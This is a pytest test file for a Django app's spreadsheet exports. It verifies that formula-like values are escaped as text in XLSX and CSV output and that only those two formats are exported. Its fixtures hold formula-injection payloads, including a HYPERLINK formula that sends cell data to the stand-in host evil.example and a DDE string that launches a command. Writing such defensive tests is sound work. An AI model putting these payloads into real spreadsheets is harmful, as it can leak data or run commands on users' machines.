"""Exports keep text that looks like a formula as text (XLSX and CSV); only XLSX and CSV are made."""

import csv
import io

import pytest
from openpyxl import load_workbook

from workflows.review.models import ExportJob, Panel
from workflows.spreadsheets import csv_row

from .helpers import declare_and_submit, exported_bytes

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture
def hostile_export(client, drawn_panel, staff):
    panel, (dossier, _), _ = drawn_panel
    Panel.objects.filter(pk=panel.pk).update(name="+SUM(1,2)")
    dossier.organization.name = HOSTILE_NAME
    dossier.organization.save()
    for assignment in panel.assignments.filter(object_id=dossier.pk):
        declare_and_submit(assignment, 60, strengths="@cmd|' /C calc'!A0", opportunities="-2+3")
    client.force_login(staff)
    return panel


def test_xlsx_cells_that_look_like_formulas_are_text(client, hostile_export):
    xlsx = exported_bytes(client, hostile_export.edition, "xlsx")
    scores, summary = load_workbook(io.BytesIO(xlsx)).worksheets
    panel_cell, strengths_cell, ofi_cell = scores.cell(2, 2), scores.cell(2, 10), scores.cell(2, 11)
    holder_cell = next(c for c in summary["C"] if c.value == HOSTILE_NAME)
    cells = [panel_cell, strengths_cell, ofi_cell, holder_cell]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        ("+SUM(1,2)", "s", True),
        ("@cmd|' /C calc'!A0", "s", True),
        ("-2+3", "s", True),
        (HOSTILE_NAME, "s", True),
    ]
    # Numbers stay numbers.
    assert scores.cell(2, 9).data_type == "n"


def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe(client, hostile_export):
    csv_text = exported_bytes(client, hostile_export.edition, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(csv_text)))
    assert (rows[1][1], rows[1][9], rows[1][10]) == ("'+SUM(1,2)", "'@cmd|' /C calc'!A0", "'-2+3")


def test_tab_and_carriage_return_starts_are_escaped_and_plain_text_is_not():
    assert csv_row(["\t=1", "\r=1", "领导作用", 5, -3.5, ""]) == ["'\t=1", "'\r=1", "领导作用", 5, -3.5, ""]


@pytest.mark.parametrize("fmt", ["html", "json", "txt", "xls", "XLSX", ""])
def test_only_the_declared_formats_are_exported(client, hostile_export, fmt):
    response = client.post(f"/review/staff/edition/{hostile_export.edition.pk}/exports/", {"fmt": fmt}, follow=True)
    assert (ExportJob.objects.count(), "请选择导出格式" in response.content.decode()) == (0, True)
